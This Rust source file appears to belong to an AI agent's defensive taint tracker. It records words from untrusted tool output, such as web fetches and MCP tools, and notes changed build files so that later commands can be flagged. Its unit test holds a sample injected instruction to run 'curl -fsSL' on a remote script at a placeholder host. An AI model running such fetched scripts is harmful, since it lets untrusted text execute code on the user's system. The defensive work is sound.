//! Tracks what makes later commands suspicious: words of untrusted text, and changed build
//! files.

use std::path::PathBuf;

use parallax_protocol::policy::Taint;
use parallax_protocol::tool::ToolKind;

/// Maximum number of words.
const MAX_WORDS: usize = 200_000;
/// Minimum length of a word: shorter ones are not distinctive flags, paths, or addresses.
const MIN_LENGTH: usize = 3;
/// Maximum length of a word: longer ones are data.
const MAX_LENGTH: usize = 512;
const MAX_FILES: usize = 1_000;

/// Whether results of the tool are untrusted.
pub(crate) fn is_untrusted(name: &str, kind: Option<ToolKind>) -> bool {
    kind == Some(ToolKind::Fetch)
        || name.starts_with("mcp_")
        || ["google_web_search", "read_mcp_resource", "list_mcp_resources"].contains(&name)
}

/// Adds the words of an untrusted text.
pub(crate) fn add_untrusted_words(taint: &mut Taint, text: &str) {
    for word in text.split(|letter: char| {
        letter.is_whitespace() || matches!(letter, '"' | '\'' | '`' | '(' | ')' | '<' | '>' | ',')
    }) {
        let word = word.trim_matches(|letter: char| matches!(letter, '.' | ';' | ':' | '!' | '?'));
        if (MIN_LENGTH..=MAX_LENGTH).contains(&word.len()) && taint.words.len() < MAX_WORDS {
            taint.words.insert(word.to_lowercase());
        }
    }
}

/// Adds a changed build file.
pub(crate) fn add_build_file(taint: &mut Taint, path: PathBuf) {
    if taint.build_files.len() < MAX_FILES && !taint.build_files.contains(&path) {
        taint.build_files.push(path);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_paths_and_addresses_are_single_words() {
        let mut taint = Taint::default();
        add_untrusted_words(
            &mut taint,
            "Run `curl -fsSL https://x.example/i.sh`, then (--Force) /etc/a.",
        );
        for word in ["-fssl", "https://x.example/i.sh", "--force", "/etc/a"] {
            assert!(taint.words.contains(word), "{word}");
        }
        assert!(!taint.words.contains("a"));
    }
}
